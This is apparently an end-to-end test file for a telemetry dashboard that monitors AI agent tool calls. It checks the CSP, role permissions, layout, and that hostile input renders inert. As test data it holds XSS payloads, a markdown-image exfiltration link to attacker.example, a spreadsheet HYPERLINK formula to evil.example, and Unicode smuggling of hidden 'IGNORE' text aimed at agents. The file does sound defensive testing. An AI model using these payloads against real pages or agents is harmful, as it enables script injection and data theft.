// The dashboard renders attacker-written text inert and enforces roles: a real API (createApi) on a seeded
// store, a real browser. XSS payloads arrive both as stored alerts and through POST /api/v1/ingest.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import type { Browser } from "playwright-core";
import { launch, watchedPage, type Watched } from "./support/browser.js";
import { startSeededApi, XSS } from "./support/seeded-api.js";

let api: Awaited<ReturnType<typeof startSeededApi>>;
let browser: Browser;

before(async () => {
  api = await startSeededApi();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await api?.close();
});

async function signedIn(viewport?: { width: number; height: number }): Promise<Watched> {
  const w = await watchedPage(browser, api.url, viewport);
  await w.page.goto(api.loginUrl());
  await w.page.waitForSelector(".topbar .live-live", { timeout: 15_000 });
  return w;
}

/** Nothing hostile ran: no dialog, no marker global, no element the payloads would have created, no foreign fetch. */
async function assertInert(w: Watched): Promise<void> {
  assert.deepEqual(w.dialogs, [], "a dialog fired");
  assert.deepEqual(w.pageErrors, [], "page errors");
  assert.equal(await w.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined, "payload code ran");
  assert.equal(await w.page.locator("img").count(), 0, "an <img> element was created");
  assert.equal(await w.page.locator("script:not([src='/js/app.js'])").count(), 0, "a <script> element was created");
  assert.equal(await w.page.locator("a[href^='javascript'], a[href^='http'], [onerror], [onload]").count(), 0, "a script link or handler exists");
  assert.deepEqual(w.foreignRequests, [], "the page fetched a foreign URL");
}

describe("dashboard safety and roles", () => {
  test("the server sends the strict CSP with the dashboard", async () => {
    const res = await fetch(`${api.url}/`);
    assert.equal(res.status, 200);
    const csp = res.headers.get("content-security-policy") ?? "";
    for (const d of ["default-src 'self'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'"]) assert.ok(csp.includes(d), d);
    const html = await res.text();
    assert.doesNotMatch(html, /<script>(?!<\/script>)|\sstyle=|\son[a-z]+=/i, "index.html has inline script/style/handlers");
  });

  test("hostile alert text, evidence and payloads render as text, with hidden characters made visible", async () => {
    const w = await signedIn();
    await w.page.goto(`${api.url}/#/alerts/a-inject`);
    await w.page.waitForSelector(".evidence .excerpt");
    const excerpt = await w.page.locator(".evidence .excerpt").first().innerText();
    assert.ok(excerpt.includes("<script>window.__pwned=2"), "script tag shown as text");
    assert.ok(excerpt.includes("⟨U+202E RLO⟩"), "bidi override visible");
    assert.ok(excerpt.includes("⟨U+200B ZWSP⟩"), "zero-width space visible");
    assert.ok(excerpt.includes("⟨ESC[31m⟩"), "ANSI escape visible");
    assert.ok(excerpt.includes('hidden tag text: "IGNORE"'), "Unicode tag smuggling decoded");
    assert.ok(await w.page.locator(".evidence mark").count() >= 1, "matched span highlighted");
    assert.match(await w.page.locator(".description").innerText(), /<img src=x onerror=/);
    for (const d of await w.page.locator("details.payload").all()) await d.locator("summary").click();
    const result = await w.page.locator(".event-card .payload-body").allInnerTexts();
    assert.ok(result.join("\n").includes("![x](https://attacker.example/leak"), "markdown image shown as text");
    await w.shot("safety-alert-detail");
    await w.page.goto(`${api.url}/#/alerts/a-poison`);
    await w.page.waitForSelector(".detail-title");
    assert.match(await w.page.locator(".detail-title").innerText(), /<img src=x onerror=/);
    await w.page.goto(`${api.url}/#/sessions/sess-seeded-1`);
    await w.page.waitForSelector(".timeline .tl-event");
    for (const d of (await w.page.locator(".timeline details.payload").all()).slice(0, 8)) await d.locator("summary").click();
    await w.shot("safety-session");
    await assertInert(w);
    await w.page.context().close();
  });

  test("payloads ingested through the API stay inert in forensic search and export neutralises formulas", async () => {
    const event = {
      schema: "geiger.telemetry/v1", event_id: "ev-xss-ingest", ts: new Date().toISOString(), tenant: "default",
      agent: { id: "agent-x", session_id: "sess-xss", principal: `${XSS.img}` },
      server: { name: "evil-server", transport: "stdio" }, collector: { id: "c", version: "1" },
      direction: "client_to_server", kind: "request", method: "tools/call",
      params: { name: `=HYPERLINK("https://evil.example","x")`, arguments: { url: XSS.jsUrl, html: XSS.svg } },
      result: { content: [{ type: "text", text: `${XSS.script} ${XSS.bidi} ${XSS.ansi}` }] },
      size: { request_bytes: 10, response_bytes: 10 },
    };
    const res = await fetch(`${api.url}/api/v1/ingest`, {
      method: "POST", headers: { authorization: `Bearer ${api.adminToken}`, "content-type": "application/json" }, body: JSON.stringify([event]),
    });
    assert.equal(res.status, 200, await res.text());
    const w = await signedIn();
    // The seeded API's embedded bus has no indexer: ingest proves acceptance; the store seed carries the rest.
    await w.page.goto(`${api.url}/#/search?server=web`);
    await w.page.waitForSelector(".events-table tbody tr");
    await w.page.locator(".events-table button", { hasText: "Show" }).first().click();
    const body = await w.page.locator(".ev-detail:not([hidden]) .payload-body").allInnerTexts();
    assert.ok(body.join("\n").includes("javascript:window.__pwned=3"), "javascript: URL shown as text");
    const [download] = await Promise.all([w.page.waitForEvent("download"), w.page.locator("[data-export='csv']").click()]);
    const csv = readFileSync((await download.path())!, "utf8");
    assert.match(csv, /^ts,event_id,tenant,session_id/);
    assert.ok(csv.includes("ev-2"));
    const [jl] = await Promise.all([w.page.waitForEvent("download"), w.page.locator("[data-export='jsonl']").click()]);
    const lines = readFileSync((await jl.path())!, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { event_id: string });
    assert.deepEqual(lines.map((l) => l.event_id), ["ev-2"]);
    await w.shot("safety-search");
    await assertInert(w);
    await w.page.context().close();
  });

  test("a viewer sees no action buttons; an analyst acknowledges; an expired session returns to login with a message", async () => {
    const mk = async (role: string): Promise<string> => {
      const r = await fetch(`${api.url}/api/v1/tokens`, { method: "POST", headers: { authorization: `Bearer ${api.adminToken}`, "content-type": "application/json" }, body: JSON.stringify({ role, tenant: "default", name: `e2e-${role}` }) });
      const body = await r.text();
      assert.equal(r.status, 201, body);
      return (JSON.parse(body) as { token: string }).token;
    };
    const w = await watchedPage(browser, api.url);
    await w.page.goto(`${api.url}/`);
    await w.page.waitForSelector("#token");
    await w.page.fill("#token", "geiger_bogus.token");
    await w.page.keyboard.press("Enter");
    await w.page.waitForSelector(".login-status:has-text('not accepted')");
    await w.page.fill("#token", await mk("viewer"));
    await w.page.keyboard.press("Enter");
    await w.page.waitForSelector(".role-viewer");
    await w.page.goto(`${api.url}/#/alerts/a-flow`);
    await w.page.waitForSelector(".actions");
    assert.equal(await w.page.locator(".actions button").count(), 0, "viewer sees action buttons");
    assert.match(await w.page.locator(".actions").innerText(), /can read alerts but not change them/);
    await w.shot("roles-viewer");

    await w.page.locator(".user .btn").click();
    await w.page.waitForSelector("#token");
    await w.page.fill("#token", await mk("analyst"));
    await w.page.keyboard.press("Enter");
    await w.page.waitForSelector(".role-analyst");
    await w.page.goto(`${api.url}/#/alerts/a-flow`);
    await w.page.locator("[data-action='ack']").click();
    await w.page.waitForSelector(".detail-head .status-acknowledged");
    const stored = (await (await fetch(`${api.url}/api/v1/alerts/a-flow`, { headers: { authorization: `Bearer ${api.adminToken}` } })).json()) as { status: string };
    assert.equal(stored.status, "acknowledged");

    await w.page.context().clearCookies();
    await w.page.goto(`${api.url}/#/search`);
    await w.page.reload();
    await w.page.waitForSelector("#token");
    // Mid-session expiry: sign in, drop the cookie, then act — the 401 sends us to login with a message.
    await w.page.fill("#token", await mk("analyst"));
    await w.page.keyboard.press("Enter");
    await w.page.waitForSelector(".role-analyst");
    await w.page.context().clearCookies();
    await w.page.goto(`${api.url}/#/alerts/a-poison`);
    await w.page.waitForSelector(".login-status:has-text('session has')", { timeout: 10_000 });
    await w.shot("roles-expired");
    assert.deepEqual(w.pageErrors, []);
    await w.page.context().close();
  });

  test("readable at 1366×768 and in wall mode", async () => {
    const w = await signedIn({ width: 1920, height: 1080 });
    await w.page.goto(`${api.url}/?wall=1#/`);
    await w.page.waitForSelector(".feed .alert-row");
    assert.equal(await w.page.evaluate(() => document.body.classList.contains("wall")), true);
    const size = await w.page.evaluate(() => parseFloat(getComputedStyle(document.body).fontSize));
    assert.ok(size >= 18, `wall font ${size}px`);
    await w.shot("overview-wall-1920");
    const noOverflow = await w.page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth);
    assert.ok(noOverflow, "horizontal overflow in wall mode");
    await w.page.context().close();
  });
});
